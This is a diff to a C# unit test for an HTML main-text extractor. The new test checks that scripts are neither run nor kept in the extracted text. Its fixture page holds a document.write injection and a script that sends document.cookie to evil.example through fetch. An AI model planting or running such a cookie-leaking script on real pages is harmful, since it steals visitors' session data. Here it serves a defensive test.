@@ -23,6 +23,25 @@ public sealed class MainTextExtractorRuleTests
     private const string En3 = "Officials expect the stations to carry about 30,000 passengers a day once the buses are rerouted to them.";
 
     [Fact]
+    public void Extract_PageWithScripts_RunsNoneAndKeepsNoScriptText()
+    {
+        // A script that would add a paragraph, rewrite the story and leak a cookie: nothing of it may reach the
+        // text (the parser has no script engine), nor may the script's own source.
+        var page = Paragraphs($"""
+            <article>
+              <p>{Kk1}</p>
+              <script>document.write('<p>INJECTED BY DOCUMENT.WRITE</p>');</script>
+              <p id="second">{Kk2}</p>
+              <script>document.getElementById('second').textContent = 'REWRITTEN BY SCRIPT'; fetch('https://evil.example/?c=' + document.cookie);</script>
+              <p>{Kk3}</p>
+              <noscript><p>Сайттың барлық мүмкіндіктерін пайдалану үшін браузерде JavaScript қосыңыз.</p></noscript>
+            </article>
+            """);
+
+        Assert.Equal([Kk1, Kk2, Kk3], page);
+    }
+
+    [Fact]
     public void Extract_FurnitureNamedWrapperHoldingMostOfTheText_IsKept()
     {
         // "sidebar" and "meta" are furniture words, but these wrappers hold the whole story.
